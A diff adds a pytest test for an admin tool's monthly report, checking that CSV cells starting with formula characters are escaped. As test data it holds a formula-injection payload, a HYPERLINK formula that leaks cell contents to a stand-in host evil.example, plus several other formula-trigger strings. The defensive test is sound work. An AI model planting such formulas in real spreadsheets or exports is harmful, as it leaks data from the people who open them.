@@ -10,13 +10,15 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from adminkit.journal.store import Journal
+from adminkit.core.csvcell import FORMULA_START
+from adminkit.journal.store import Filters, Journal
 
 RUN = "R-20261207-120000-a12b12"
 FORGED = "done\n  finished 2026-12-07T12:00:00: ok {'counts': {'changed': 1}}"
@@ -65,3 +67,29 @@ def test_a_table_cell_shows_a_values_newline_escaped(env: Any, cli: Any,
     assert r.code == 0, r.err
     assert _forged_lines(r.out) == [], r.out
     assert "\\n  finished" in r.out
+
+
+def test_the_monthly_reports_csv_guards_formulas(env: Any, cli: Any, tmp_path: Path) -> None:
+    """Operators (ADMINKIT_OPERATOR is anyone's text), tickets and actions: text in the
+    spreadsheet, never a formula; the numbers stay numbers."""
+    (env.profiles / "acme.yaml").write_text("description: acme\n")
+    journal = Journal(env.journal)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click") (login alice)'
+    common = {"profile": "acme", "mode": "apply"}
+    journal.append(kind="run", run_id="R-1", operator=evil, **common)
+    journal.append(kind="action", run_id="R-1", idx=0, operator=evil, ticket="+1-555",
+                   action="@SUM(A1)", target="x", status="changed", **common)
+    journal.append(kind="run", run_id="R-2", operator="-2+3", **common)
+    journal.append(kind="run", run_id="R-3", operator="\tcmd", **common)
+    month = journal.entries(Filters(kinds=("run",)))[0]["time"][:7]
+    journal.close()
+    out = tmp_path / "acme.html"
+    r = cli("-p", "acme", "report", "monthly", "--month", month, "--out", str(out))
+    assert r.code == 0, r.err
+    rows = list(csv.reader(out.with_suffix(".csv").open(newline="")))
+    cells = [c for row in rows for c in row]
+    assert [c for c in cells if c.startswith(FORMULA_START)] == []
+    assert ["runs by", "'" + evil, "", "1"] in rows
+    assert ["runs by", "'-2+3", "", "1"] in rows and ["runs by", "'\tcmd", "", "1"] in rows
+    assert ["ticket", "'+1-555", "", "1"] in rows
+    assert ["action", "'@SUM(A1)", "changed", "1"] in rows
